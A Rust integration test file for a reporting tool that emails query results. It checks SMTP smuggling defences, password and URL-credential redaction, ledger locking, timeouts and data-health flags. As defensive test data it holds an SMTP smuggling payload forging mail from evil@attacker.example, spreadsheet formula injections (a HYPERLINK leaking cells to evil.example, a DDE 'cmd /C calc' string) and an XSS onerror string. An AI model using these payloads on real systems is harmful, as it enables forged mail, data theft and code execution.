//! Hostile data and careless operation: lake values that try to smuggle mail through the SMTP
//! stream, and secrets that must never reach a log or a record.

use crate::support::smtp::{Options, SmtpServer};
use crate::support::{TestProject, config, lake};
use base64::Engine;
use mail_parser::{MessageParser, MimeHeaders};
use std::path::Path;

/// A customer name that, sent raw on a relay that ends DATA at `<LF>.<CR><LF>`, ends the report
/// and starts a second, forged message to an outside address.
const SMUGGLER: &str = "Initech\n.\r\nMAIL FROM:<evil@attacker.example>\r\nRCPT TO:<victim@outside.example>\r\nDATA\r\n\
Subject: forged\r\n\r\nPlease wire the money.\r\n.\r\n";

/// The hand-made lake with customer 3's name replaced.
fn lake_with_name(root: &Path, name: &str) {
    lake::write(root);
    let c = lake::customers();
    let names = datafusion::arrow::array::StringArray::from(vec!["Acme", "Globex", name, "Umbrella"]);
    let mut cols = c.columns().to_vec();
    cols[1] = std::sync::Arc::new(names);
    let batch = datafusion::arrow::record_batch::RecordBatch::try_new(c.schema(), cols).unwrap();
    lake::write_parquet(&root.join("lake/customers/customers.parquet"), &batch);
}

/// Every line of a message on the wire: CRLF-terminated, at most 998 octets before the CRLF, and
/// no bare CR or LF anywhere (RFC 5322 2.1.1 and 2.3).
#[track_caller]
fn assert_wire_safe(raw: &[u8]) {
    let mut start = 0;
    for (i, pair) in raw.windows(2).enumerate() {
        if pair == b"\r\n" {
            assert!(i - start <= 998, "a line of {} octets at byte {start}", i - start);
            start = i + 2;
        }
    }
    for (i, b) in raw.iter().enumerate() {
        match b {
            b'\r' => assert_eq!(raw.get(i + 1), Some(&b'\n'), "bare CR at byte {i}"),
            b'\n' => assert!(i > 0 && raw[i - 1] == b'\r', "bare LF at byte {i}"),
            _ => {}
        }
    }
}

#[test]
fn a_hostile_customer_name_cannot_smuggle_a_second_message_through_a_lax_relay() {
    let server = SmtpServer::start(Options { lax_line_ends: true, ..Default::default() });
    let p = TestProject::bundled();
    p.file("pareto.toml", &config(server.port, ""));
    lake_with_name(&p.root, SMUGGLER);
    p.run(&["run", "weekly-leadership", "--as-of", "2026-11-23T07:00"]).expect(0);

    let got = server.received();
    assert_eq!(got.len(), 1, "exactly one message; got envelopes {:?}", got.iter().map(|m| &m.rcpt_tos).collect::<Vec<_>>());
    assert_eq!(got[0].mail_from, "reports@example.com");
    assert_eq!(got[0].rcpt_tos, vec!["leadership@example.com"]);
    let archived = std::fs::read(p.path("archive/weekly-leadership/2026-W47/message.eml")).unwrap();
    assert_wire_safe(&archived);
    crate::support::same_bytes(&got[0].raw, &[&archived[..], b"\r\n"].concat());

    // The name arrives whole in the attachment (quoted by the CSV writer), as the lake has it.
    let msg = MessageParser::default().parse(&got[0].raw).unwrap();
    let top = msg.attachments().find(|a| a.attachment_name() == Some("top_customers-2026-W47.csv")).unwrap();
    assert_eq!(top.content_transfer_encoding(), Some("base64"));
    let csv = String::from_utf8(top.contents().to_vec()).unwrap();
    assert_eq!(csv.lines().nth(1).unwrap(), "3,\"Initech");
    assert!(csv.contains(&format!("3,\"{SMUGGLER}\",Enterprise,DE,1,1000.00,0.7142857142857143\n")), "{csv:?}");
    // A table cell is one line: the parts show it flattened.
    let one_line = "Initech . MAIL FROM:<evil@attacker.example> RCPT TO:<victim@outside.example> DATA Subject: forged";
    assert!(msg.body_text(0).unwrap().contains(one_line), "{}", msg.body_text(0).unwrap());
    assert!(msg.body_html(0).unwrap().contains(&one_line.replace('<', "&lt;").replace('>', "&gt;")));
}

#[test]
fn a_large_attachment_goes_out_as_base64_that_a_strict_server_takes() {
    // A server that forbids bare LF (as Postfix does against SMTP smuggling) refuses the message
    // for good (5xx, never retried): a CSV written with LF line ends used to be sent as is.
    let server = SmtpServer::start(Options { strict_lines: true, ..Default::default() });
    let p = TestProject::bundled();
    p.file("pareto.toml", &config(server.port, ""));
    p.run(&["generate", "--out", "lake", "--customers", "300", "--seed", "3", "--until", "2026-11-23"]).expect(0);
    p.run(&["run", "weekly-leadership", "--as-of", "2026-11-23T07:00"]).expect(0);

    let got = server.received();
    assert_eq!(got.len(), 1);
    assert_wire_safe(&got[0].raw);
    let msg = MessageParser::default().parse(&got[0].raw).unwrap();
    // The charts are inline parts, base64 as well.
    let (images, attachments): (Vec<_>, Vec<_>) = msg.attachments().partition(|a| a.content_type().map(|c| c.ctype()) == Some("image"));
    assert_eq!(images.len(), 12);
    assert!(images.iter().all(|i| i.content_transfer_encoding() == Some("base64")));
    assert_eq!(attachments.len(), 3);
    let dir = p.path("archive/weekly-leadership/2026-W47/results");
    let mut largest = 0;
    for a in attachments {
        let name = a.attachment_name().unwrap();
        assert_eq!(a.content_transfer_encoding(), Some("base64"), "{name}");
        let query = name.strip_suffix("-2026-W47.csv").unwrap();
        let want = std::fs::read(dir.join(format!("{query}.csv"))).unwrap();
        crate::support::same_bytes(a.contents(), &want);
        largest = largest.max(want.len());
    }
    assert!(largest > 2000, "the test needs an attachment of many lines; the largest is {largest} bytes");
}

const PASSWORD: &str = "Tr0ub4dor&3-horse";

/// Every file under `dir`, recursively.
fn files(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let path = e.unwrap().path();
        if path.is_dir() {
            files(&path, out);
        } else {
            out.push(path);
        }
    }
}

#[test]
fn the_smtp_password_reaches_no_log_record_or_ledger_at_debug_or_trace() {
    let server = SmtpServer::start(Options { user: Some(("reports", PASSWORD)), ..Default::default() });
    let b64 = base64::engine::general_purpose::STANDARD;
    let forms = [
        ("plain", PASSWORD.to_string()),
        ("LOGIN (base64)", b64.encode(PASSWORD)),
        ("PLAIN (base64)", b64.encode(format!("\0reports\0{PASSWORD}"))),
        ("PLAIN with authzid (base64)", b64.encode(format!("reports\0reports\0{PASSWORD}"))),
    ];
    for level in ["debug", "trace"] {
        let mut p = TestProject::bundled();
        p.file("pareto.toml", &config(server.port, "user = \"reports\""));
        lake::write(&p.root);
        p.env("PARETO_SMTP_PASSWORD", PASSWORD).env("PARETO_LOG", level);
        let before = server.received().len();
        let run = p.run(&["run", "weekly-leadership", "--as-of", "2026-11-23T07:00"]);
        run.expect(0);
        let got = server.received();
        assert_eq!(got.len(), before + 1);
        assert!(got.last().unwrap().auth, "the server required AUTH and got it");
        assert!(run.stderr.contains("DEBUG"), "{level} logs were written: {}", &run.stderr[..run.stderr.len().min(500)]);
        // lettre's own tracing logged the whole message; the report's customers stay out of the log.
        assert!(
            !run.stderr.contains("Globex"),
            "customer data in the {level} log: {}",
            run.stderr.lines().filter(|l| l.contains("Globex")).take(3).map(|l| &l[..l.len().min(600)]).collect::<Vec<_>>().join("\n")
        );

        let history = p.run(&["history", "weekly-leadership", "2026-W47", "--json"]);
        history.expect(0);
        let mut texts = vec![("stdout".to_string(), run.stdout.clone().into_bytes()), ("stderr".into(), run.stderr.clone().into_bytes())];
        texts.push(("history".into(), [history.stdout.as_bytes(), history.stderr.as_bytes()].concat()));
        let mut all = Vec::new();
        files(&p.root, &mut all);
        for f in all.iter().filter(|f| !f.starts_with(p.path("lake"))) {
            texts.push((f.display().to_string(), std::fs::read(f).unwrap()));
        }
        assert!(texts.iter().any(|(n, _)| n.ends_with("ledger.sqlite")), "the ledger was searched");
        for (where_, bytes) in &texts {
            let hay = String::from_utf8_lossy(bytes);
            for (form, secret) in &forms {
                assert!(!hay.contains(secret.as_str()), "the password ({form}) is in {where_} at PARETO_LOG={level}");
            }
        }
    }
}

#[test]
fn a_hand_over_the_ledger_cannot_record_is_not_made_and_the_rerun_sends_each_recipient_once() {
    // The server waits 4 s before answering the first RCPT: time for another process to take the
    // ledger while pareto is between recording the attempt and handing the message over.
    let server = SmtpServer::start(Options { stalls: vec!["rcpt=4*1"], ..Default::default() });
    let mut p = daily(server.port);
    p.env("PARETO_TEST_LEDGER_BUSY_MS", "300");

    let out = std::thread::scope(|s| {
        let run = s.spawn(|| p.run(&["run", "daily", "--as-of", "2026-11-17"]));
        // Once the first attempt is recorded, hold the ledger until the run gives up.
        let db = p.path("state/ledger.sqlite");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        let conn = loop {
            assert!(std::time::Instant::now() < deadline, "the run never recorded an attempt");
            if let Ok(c) = rusqlite::Connection::open_with_flags(&db, rusqlite::OpenFlags::SQLITE_OPEN_READ_WRITE) {
                let attempts: Option<i64> = c.query_row("SELECT MAX(attempts) FROM deliveries", [], |r| r.get(0)).unwrap_or(None);
                if attempts.unwrap_or(0) > 0 {
                    c.execute_batch("BEGIN EXCLUSIVE").unwrap();
                    break c;
                }
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        let out = run.join().unwrap();
        conn.execute_batch("COMMIT").unwrap();
        out
    });
    out.expect(1);
    assert!(out.stderr.contains("database is locked"), "{}", out.stderr);
    assert!(server.received().is_empty(), "a message went out that the ledger could not record: {}", out.stderr);

    // The rerun finds both recipients pending and sends each exactly once.
    p.run(&["run", "daily", "--as-of", "2026-11-17"]).expect(0);
    let mut got: Vec<Vec<String>> = server.received().iter().map(|m| m.rcpt_tos.clone()).collect();
    got.sort();
    assert_eq!(got, vec![vec!["a@example.com".to_string()], vec!["b@example.com".to_string()]]);
}

/// A daily job with two recipients on the hand-made lake, sending to `port`.
fn daily(port: u16) -> TestProject {
    let p = TestProject::new();
    p.file("pareto.toml", &config(port, "retries = 0"));
    p.file(
        "jobs/daily.toml",
        "name = \"daily\"\nschedule = \"0 6 * * *\"\ntimezone = \"Europe/Amsterdam\"\nperiod = \"day\"\nqueries = [\"totals\"]\n\
         template = \"simple\"\nsubject = \"Totals {{period.label}}\"\nto = [\"a@example.com\", \"b@example.com\"]\n",
    );
    p.file("queries/totals.sql", "SELECT COUNT(*) AS orders FROM orders WHERE ordered_at < $period_end\n");
    p.file("templates/simple.html.hbs", "<p>{{#each results.totals.rows}}{{orders}}{{/each}}</p>\n");
    p.file("templates/simple.txt.hbs", "{{#each results.totals.rows}}{{orders}}{{/each}}\n");
    lake::write(&p.root);
    p
}

#[test]
fn a_forced_resend_to_a_dead_server_never_overwrites_the_record_of_the_send() {
    let server = SmtpServer::start(Options::default());
    let p = daily(server.port);
    p.run(&["run", "daily", "--as-of", "2026-11-17"]).expect(0);
    let sent = p.read("archive/daily/2026-11-16/run.json");
    p.file("pareto.toml", &config(crate::support::closed_port(), "retries = 0"));
    let out = p.run(&["run", "daily", "--as-of", "2026-11-17", "--force"]);
    out.expect(4);
    assert_eq!(p.read("archive/daily/2026-11-16/run.json"), sent, "the record of the send is untouched");
    let failed: serde_json::Value = serde_json::from_str(&p.read("archive/daily/2026-11-16/run-failed.json")).unwrap();
    assert_eq!(failed["outcome"], "failed");
    assert!(failed["error"].as_str().unwrap().contains("refused"), "{failed}");
    assert_eq!(server.received().len(), 2, "only the first run's two messages");
}

#[test]
fn lake_values_cannot_inject_html_through_a_helper_or_formulas_into_an_attached_spreadsheet() {
    let server = SmtpServer::start(Options::default());
    let p = daily(server.port);
    p.file(
        "jobs/daily.toml",
        &format!(
            "{}attach = [\"totals\"]\n",
            p.read("jobs/daily.toml").replace("to = [\"a@example.com\", \"b@example.com\"]", "to = [\"a@example.com\"]")
        ),
    );
    p.file(
        "queries/totals.sql",
        "SELECT '<img src=x onerror=alert(1)>' AS cur, 5 AS amount, name, -3 AS delta\nFROM (VALUES\n  ('=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")'),\n  ('+1+cmd|'' /C calc''!A0'),\n  ('-2+3'),\n  ('@SUM(1+1)'),\n  ('Acme - Holdings')\n) AS t(name)\nWHERE EXISTS (SELECT 1 FROM orders)\n",
    );
    p.file("templates/simple.html.hbs", "{{#each results.totals.rows}}<p>{{currency amount code=cur}}</p>{{/each}}\n");
    p.file("templates/simple.txt.hbs", "{{#each results.totals.rows}}{{currency amount code=cur}}\n{{/each}}");
    p.run(&["run", "daily", "--as-of", "2026-11-17"]).expect(0);

    // The helper's code argument is escaped in HTML (and left alone in the text part).
    let html = p.read("archive/daily/2026-11-16/report.html");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("<p>&lt;IMG SRC&#x3D;X ONERROR&#x3D;ALERT(1)&gt; 5</p>"), "{html}");
    assert!(p.read("archive/daily/2026-11-16/report.txt").starts_with("<IMG SRC=X ONERROR=ALERT(1)> 5\n"));

    // The attached CSV starts every formula-like text with ', and leaves numbers as numbers.
    let got = server.received();
    let msg = MessageParser::default().parse(&got[0].raw).unwrap();
    let csv = String::from_utf8(msg.attachments().next().unwrap().contents().to_vec()).unwrap();
    assert_eq!(
        csv,
        "cur,amount,name,delta\n\
         <img src=x onerror=alert(1)>,5,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",-3\n\
         <img src=x onerror=alert(1)>,5,'+1+cmd|' /C calc'!A0,-3\n\
         <img src=x onerror=alert(1)>,5,'-2+3,-3\n\
         <img src=x onerror=alert(1)>,5,'@SUM(1+1),-3\n\
         <img src=x onerror=alert(1)>,5,Acme - Holdings,-3\n"
    );
    // The archive keeps the raw values in the result's Parquet.
    let raw = p.result("archive/daily/2026-11-16/results", "totals");
    assert_eq!(raw["rows"][0]["name"], "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
}

#[test]
fn an_age_too_long_for_the_clock_is_an_error_for_that_job_not_a_panic() {
    let server = SmtpServer::start(Options::default());
    let p = daily(server.port);
    p.file("jobs/daily.toml", &format!("{}require_fresh = {{ orders = \"9999999999999h\" }}\n", p.read("jobs/daily.toml")));
    let out = p.run(&["list"]);
    out.expect(2);
    assert!(out.stdout.contains("jobs/daily.toml  -         -          -       -         invalid: run `pareto check`"), "{}", out.stdout);
    for cmd in [&["check"][..], &["run", "daily", "--as-of", "2026-11-17"]] {
        let out = p.run(cmd);
        out.expect(2);
        assert!(!out.stderr.contains("panicked"), "{cmd:?}: {}", out.stderr);
        let text = format!("{}{}", out.stdout, out.stderr);
        assert!(
            text.contains("jobs/daily.toml:9:28: `require_fresh.orders`: `9999999999999h` is not an age such as `36h`, `2d` or `90m` (at most ten years)"),
            "{cmd:?}: {text}"
        );
    }
    assert!(server.received().is_empty());
}

#[test]
fn a_dry_run_needs_no_smtp_password() {
    let server = SmtpServer::start(Options::default());
    let p = daily(server.port);
    p.file("pareto.toml", &config(server.port, "user = \"reports\"\npassword_env = \"PARETO_TEST_NO_SUCH_PASSWORD\""));
    p.run(&["run", "daily", "--as-of", "2026-11-17", "--dry-run"]).expect(0);
    let out = p.run(&["run", "daily", "--as-of", "2026-11-17"]);
    out.expect(2);
    assert!(
        out.stderr.contains(
            "`smtp.user` is set in pareto.toml but there is no password: set the environment variable PARETO_TEST_NO_SUCH_PASSWORD"
        ),
        "{}",
        out.stderr
    );
    assert!(server.received().is_empty());
}

#[test]
fn credentials_in_a_lake_url_reach_no_record_ledger_notice_or_terminal() {
    let server = SmtpServer::start(Options::default());
    let p = daily(server.port);
    let dead = crate::support::closed_port();
    let lake = format!("http://reader:tok-SECRET-123456@127.0.0.1:{dead}/lake/?sv=2024&sig=SIGSECRET987654");
    p.file("jobs/daily.toml", &format!("{}owners = [\"owner@example.com\"]\nlake = \"{lake}\"\n", p.read("jobs/daily.toml")));
    let out = p.run(&["run", "daily", "--as-of", "2026-11-17"]);
    out.expect(1);
    let shown = format!("http://reader:[redacted]@127.0.0.1:{dead}/lake/?sv=[redacted]&sig=[redacted]");
    assert!(out.stderr.contains(&shown), "the lake is named, without its secrets: {}", out.stderr);

    let notices = server.received();
    assert_eq!(notices.len(), 1, "the owners were told the run failed");
    assert_eq!(notices[0].rcpt_tos, vec!["owner@example.com"]);
    let notice = MessageParser::default().parse(&notices[0].raw).unwrap();
    assert!(notice.body_text(0).unwrap().contains(&shown), "{}", notice.body_text(0).unwrap());

    let history = p.run(&["history", "daily", "--json"]);
    history.expect(0);
    assert!(history.stdout.contains("[redacted]"), "{}", history.stdout);
    let mut texts = vec![
        ("stdout".to_string(), out.stdout.clone().into_bytes()),
        ("stderr".into(), out.stderr.clone().into_bytes()),
        ("history".into(), history.stdout.clone().into_bytes()),
        ("notice".into(), notices[0].raw.clone()),
    ];
    let mut all = Vec::new();
    files(&p.root, &mut all);
    for f in all.iter().filter(|f| !f.starts_with(p.path("lake")) && !f.ends_with("jobs/daily.toml")) {
        texts.push((f.display().to_string(), std::fs::read(f).unwrap()));
    }
    assert!(texts.iter().any(|(n, _)| n.ends_with("ledger.sqlite")), "the ledger was searched");
    for (where_, bytes) in &texts {
        let hay = String::from_utf8_lossy(bytes);
        for secret in ["tok-SECRET-123456", "SIGSECRET987654"] {
            assert!(!hay.contains(secret), "`{secret}` is in {where_}");
        }
    }
}

/// Replace the hand-made lake's orders with `batch`, as one file.
fn replace_orders(p: &TestProject, batch: datafusion::arrow::record_batch::RecordBatch) {
    std::fs::remove_dir_all(p.root.join("lake/orders")).unwrap();
    lake::write_parquet(&p.root.join("lake/orders/orders.parquet"), &batch);
}

/// The weekly preview's data-health row for `table` and `check`.
#[track_caller]
fn data_health(p: &TestProject, table: &str, check: &str) -> serde_json::Value {
    let dq = p.result("archive/weekly-leadership/2026-W47.preview/results", "data_quality");
    let rows = dq["rows"].as_array().unwrap();
    rows.iter()
        .find(|r| r["table_name"] == table && r["check_name"] == check)
        .unwrap_or_else(|| panic!("no {table}/{check} in {dq}"))
        .clone()
}

#[test]
fn amounts_that_are_not_finite_numbers_are_flagged_in_data_health() {
    use datafusion::arrow::array::{ArrayRef, Float64Array};
    use datafusion::arrow::datatypes::DataType;
    let p = TestProject::bundled();
    p.file("pareto.toml", &config(crate::support::closed_port(), ""));
    lake::write(&p.root);
    // The hand-made orders with amounts as floats, two of them NaN and +infinity.
    let o = lake::orders();
    let amounts = Float64Array::from(vec![80.0, 20.0, 49.5, f64::NAN, 250.5, f64::INFINITY, 999.0]);
    let mut cols: Vec<ArrayRef> = o.columns().to_vec();
    cols[3] = std::sync::Arc::new(amounts);
    replace_orders(&p, datafusion::arrow::record_batch::RecordBatch::try_new(lake::orders_schema(DataType::Float64), cols).unwrap());

    p.run(&["run", "weekly-leadership", "--as-of", "2026-11-23T07:00", "--dry-run"]).expect(0);
    let row = data_health(&p, "orders", "out of range: amount or cost not a finite number");
    crate::support::same(&row, serde_json::json!({"problem": 2, "rows": 7, "status": "problem"}));
    let mrr = data_health(&p, "subscriptions", "out of range: MRR not a finite number");
    crate::support::same(&mrr, serde_json::json!({"problem": 0, "status": "ok"}));
    let text = p.read("archive/weekly-leadership/2026-W47.preview/report.txt");
    assert!(text.contains("out of range: amount or cost not a finite number"), "the report lists it under data health:\n{text}");
}

/// Rows beyond the first of each id: order 101 once more and 102 twice more (one of them on
/// another day) are three duplicates of ten orders; nothing else in the hand lake repeats.
#[test]
fn duplicate_ids_are_counted_as_the_rows_beyond_the_first() {
    let p = TestProject::bundled();
    p.file("pareto.toml", &config(crate::support::closed_port(), ""));
    lake::write(&p.root);
    let again = lake::orders_batch(&[
        (101, 1, "2026-11-16T09:00:00Z", 10000, Some(6000), "web"),
        (102, 2, "2026-11-17T10:00:00Z", 25050, None, "sales"),
        (102, 2, "2026-11-19T10:00:00Z", 100, None, "sales"),
    ]);
    lake::write_parquet(&p.path("lake/orders/part-2.parquet"), &again);
    p.run(&["run", "weekly-leadership", "--as-of", "2026-11-23T07:00", "--dry-run"]).expect(0);
    let row = data_health(&p, "orders", "duplicate keys");
    crate::support::same(&row, serde_json::json!({"problem": 3, "rows": 10, "share": 0.3, "status": "problem"}));
    for table in ["customers", "tickets"] {
        crate::support::same(&data_health(&p, table, "duplicate keys"), serde_json::json!({"problem": 0, "status": "ok"}));
    }
}

#[test]
fn concurrent_previews_of_one_period_leave_one_whole_folder() {
    let server = SmtpServer::start(Options::default());
    let p = daily(server.port);
    p.file("templates/simple.txt.hbs", "{{as_of}} {{#each results.totals.rows}}{{orders}}{{/each}}\n");
    // Same period (2026-11-16), four different as-of times, all at once.
    let hours = ["01", "02", "03", "04"];
    std::thread::scope(|s| {
        let runs: Vec<_> = hours
            .iter()
            .map(|h| {
                let p = &p;
                s.spawn(move || p.run(&["run", "daily", "--as-of", &format!("2026-11-17T{h}:00"), "--dry-run"]))
            })
            .collect();
        for r in runs {
            r.join().unwrap().expect(0);
        }
    });
    // The folder is one run's, whole: its record and its report agree on the as-of time.
    let record: serde_json::Value = serde_json::from_str(&p.read("archive/daily/2026-11-16.preview/run.json")).unwrap();
    let as_of = record["as_of"].as_str().unwrap().to_string();
    assert_eq!(p.read("archive/daily/2026-11-16.preview/report.txt"), format!("{as_of} 4\n"));
    let mut left: Vec<String> =
        std::fs::read_dir(p.path("archive/daily")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().to_string()).collect();
    left.sort();
    assert_eq!(left, vec![".2026-11-16.preview.lock", "2026-11-16.preview"], "no staging or set-aside folders are left");
    assert!(!p.path("state").exists(), "a preview needs no state folder");
    assert!(server.received().is_empty());
}

#[test]
fn the_run_timeout_covers_rendering_not_only_the_queries() {
    let server = SmtpServer::start(Options::default());
    let p = daily(server.port);
    p.file("pareto.toml", &format!("{}\n[lake]\ntimeout_secs = 1\n", config(server.port, "retries = 0")));
    // Quick queries, and a template that takes seconds: 1,500 × 1,500 cells.
    p.file(
        "queries/totals.sql",
        "SELECT value AS n, (SELECT COUNT(*) FROM orders WHERE ordered_at < $period_end) AS orders\nFROM generate_series(1, 1500)\n",
    );
    let slow = "{{#each results.totals.rows}}{{#each @root.results.totals.rows}}{{n}}{{/each}}{{/each}}\n";
    p.file("templates/simple.html.hbs", slow);
    p.file("templates/simple.txt.hbs", slow);
    let out = p.run(&["run", "daily", "--as-of", "2026-11-17"]);
    out.expect(1);
    assert_eq!(
        out.stderr.lines().next().unwrap(),
        "error: job `daily` failed: the run took longer than 1s to query, render and archive (`lake.timeout_secs` in pareto.toml); nothing was sent"
    );
    assert!(server.received().is_empty());
    // Nothing half-built is swapped in: the period's folder holds only the record of the failure.
    let names: Vec<String> = std::fs::read_dir(p.path("archive/daily/2026-11-16"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    assert_eq!(names, vec!["run.json"]);
}

#[test]
fn a_timestamp_no_calendar_can_show_is_flagged_in_data_health_not_a_failed_run() {
    use datafusion::arrow::array::{ArrayRef, TimestampMicrosecondArray};
    let p = TestProject::bundled();
    p.file("pareto.toml", &config(crate::support::closed_port(), ""));
    lake::write(&p.root);
    // Order 104 dated in the year 280,000 (seconds written as microseconds, say): beyond what
    // any calendar library shows, and after every period.
    let o = lake::orders();
    let mut cols: Vec<ArrayRef> = o.columns().to_vec();
    let times = [
        "2026-11-10T12:00:00Z",
        "2026-11-15T22:59:59Z",
        "2026-11-15T23:00:00Z",
        "2026-11-16T09:00:00Z",
        "2026-11-17T10:00:00Z",
        "2026-11-22T22:30:00Z",
    ];
    let mut micros: Vec<i64> = times.iter().map(|t| lake::micros(t)).collect();
    micros.push(8_774_000_000_000_000_000);
    cols[2] = std::sync::Arc::new(TimestampMicrosecondArray::from(micros).with_timezone("UTC"));
    replace_orders(&p, datafusion::arrow::record_batch::RecordBatch::try_new(o.schema(), cols).unwrap());

    p.run(&["run", "weekly-leadership", "--as-of", "2026-11-23T07:00", "--dry-run"]).expect(0);
    let row = data_health(&p, "orders", "out of range: ordered_at before 1900 or after 2200");
    crate::support::same(&row, serde_json::json!({"problem": 1, "rows": 6, "status": "problem"}));
    let text = p.read("archive/weekly-leadership/2026-W47.preview/report.txt");
    assert!(text.contains("out of range: ordered_at before 1900 or after 2200"), "the report lists it under data health:\n{text}");
}

#[test]
fn an_xlsx_attachment_has_typed_cells_and_lake_text_never_becomes_a_formula() {
    let server = SmtpServer::start(Options::default());
    let p = daily(server.port);
    p.file(
        "jobs/daily.toml",
        &format!(
            "{}attach = [{{ result = \"totals\", format = \"xlsx\" }}]\n",
            p.read("jobs/daily.toml").replace("to = [\"a@example.com\", \"b@example.com\"]", "to = [\"a@example.com\"]")
        ),
    );
    p.file(
        "queries/totals.sql",
        "-- pareto: format score=number:1\n\
         SELECT name, CAST(amount AS DECIMAL(10, 2)) AS revenue, share, score, DATE '2026-11-16' AS day,\n\
         TIMESTAMP '2026-11-16 08:30:00' AS seen_at, n AS orders, n > 1 AS repeat\nFROM (VALUES\n  \
         ('=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")', 1234.5, 0.25, 4.25, 1),\n  \
         ('Bell' || chr(7) || ' Co', -20, 0.125, 3.0, 2),\n  \
         ('@SUM(1+1)', NULL, NULL, NULL, 3)\n) AS t(name, amount, share, score, n)\nWHERE EXISTS (SELECT 1 FROM orders)\n",
    );
    p.file("templates/simple.html.hbs", "<p>{{results.totals.row_count}}</p>\n");
    p.file("templates/simple.txt.hbs", "{{results.totals.row_count}}\n");
    p.run(&["run", "daily", "--as-of", "2026-11-17"]).expect(0);

    let got = server.received();
    let msg = MessageParser::default().parse(&got[0].raw).unwrap();
    let a = msg.attachments().next().unwrap();
    assert_eq!(a.attachment_name(), Some("totals-2026-11-16.xlsx"));
    assert_eq!(
        a.content_type().map(|c| format!("{}/{}", c.ctype(), c.subtype().unwrap_or_default())).as_deref(),
        Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    );
    // What was sent is what the archive keeps.
    let archived = p.path("archive/daily/2026-11-16/results/totals.xlsx");
    assert_eq!(std::fs::read(&archived).unwrap(), a.contents());

    let x = crate::support::read_xlsx(&archived);
    assert_eq!(x["sheet"], "totals");
    assert_eq!(x["freeze"], "A2");
    assert_eq!(x["filter"], "A1:H4");
    assert_eq!(x["bold"], serde_json::json!([true, true, true, true, true, true, true, true]));
    let money = "\"€\"#,##0.00;-\"€\"#,##0.00";
    assert_eq!(
        x["rows"],
        serde_json::json!([
            [
                ["name", "s", "General"],
                ["revenue", "s", "General"],
                ["share", "s", "General"],
                ["score", "s", "General"],
                ["day", "s", "General"],
                ["seen_at", "s", "General"],
                ["orders", "s", "General"],
                ["repeat", "s", "General"]
            ],
            // Formula-like text is a text cell, not a formula (type s, not f), kept whole.
            [
                ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "s", "General"],
                [1234.5, "n", money],
                [0.25, "n", "0.0%"],
                [4.25, "n", "#,##0.0"],
                ["2026-11-16T00:00:00", "d", "yyyy-mm-dd"],
                ["2026-11-16T08:30:00", "d", "yyyy-mm-dd hh:mm"],
                [1, "n", "#,##0"],
                [false, "b", "General"]
            ],
            // A control character (which XML cannot hold) becomes a space.
            [
                ["Bell  Co", "s", "General"],
                [-20, "n", money],
                [0.125, "n", "0.0%"],
                [3, "n", "#,##0.0"],
                ["2026-11-16T00:00:00", "d", "yyyy-mm-dd"],
                ["2026-11-16T08:30:00", "d", "yyyy-mm-dd hh:mm"],
                [2, "n", "#,##0"],
                [true, "b", "General"]
            ],
            [
                ["@SUM(1+1)", "s", "General"],
                [null, "n", "General"],
                [null, "n", "General"],
                [null, "n", "General"],
                ["2026-11-16T00:00:00", "d", "yyyy-mm-dd"],
                ["2026-11-16T08:30:00", "d", "yyyy-mm-dd hh:mm"],
                [3, "n", "#,##0"],
                [true, "b", "General"]
            ]
        ])
    );
}

#[test]
fn a_bad_attach_entry_is_named_by_check() {
    let p = daily(crate::support::closed_port());
    let job = p.read("jobs/daily.toml");
    p.file("jobs/daily.toml", &format!("{job}attach = [{{ result = \"totals\", format = \"pdf\" }}, {{ reslt = \"totals\" }}, 3]\n"));
    let out = p.run(&["check"]);
    out.expect(2);
    assert_eq!(
        out.stdout,
        "\
jobs/daily.toml:9:11: `attach`: format \"pdf\" is not one of \"csv\", \"xlsx\"
jobs/daily.toml:9:50: `attach`: unknown key `reslt`; an entry is `{ result = \"exit_list\", format = \"xlsx\" }`
jobs/daily.toml:9:50: `attach`: name the result to attach, as `result = \"exit_list\"`
jobs/daily.toml:9:72: `attach`: 3 is neither a result's name nor `{ result = \"exit_list\", format = \"xlsx\" }`
4 problem(s) found
"
    );
}
